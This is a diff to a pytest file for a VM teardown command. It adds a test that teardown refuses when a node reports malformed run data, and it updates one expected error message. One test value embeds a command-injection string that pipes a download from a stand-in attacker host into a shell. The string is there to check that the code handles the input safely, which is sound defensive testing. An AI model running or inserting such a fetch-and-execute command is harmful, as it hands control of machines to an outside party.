@@ -174,12 +174,22 @@ def test_down_refuses_where_a_zone_that_does_not_answer_may_hold_the_node(laptop
     assert not machines.destroyed
 
 
+@pytest.mark.parametrize("runs", [[RUN], "all", {RUN: []}, {"x; curl evil.example | sh": {}}])
+def test_down_refuses_while_a_node_answers_something_else(laptop: Laptop, new_vm: NewVm, runs: Any) -> None:
+    vm = new_vm({"hvdcloud-node flush": says(json.dumps({"runs": runs}) + "\n")})
+    context, _, machines = laptop.context([vm])
+    laptop.keep_manifest(0, complete=True)
+    with context, pytest.raises(CheckpointError, match="node digits-0 does not say what it holds"):
+        down(context)
+    assert not machines.destroyed
+
+
 @pytest.mark.parametrize(
     ("report", "reason"),
     [
         ({"active": True}, f"run {RUN} is still active"),
         ({"pending": ["last.pt"]}, f"{RUN}: last.pt is not in the bucket yet"),
-        ({"errors": ["no space left"]}, f"{RUN}: no space left"),
+        ({"errors": ["no space left"]}, f"{RUN}: node digits-0 says: no space left"),
     ],
 )
 def test_down_refuses_while_a_node_has_something_that_is_not_in_the_bucket(
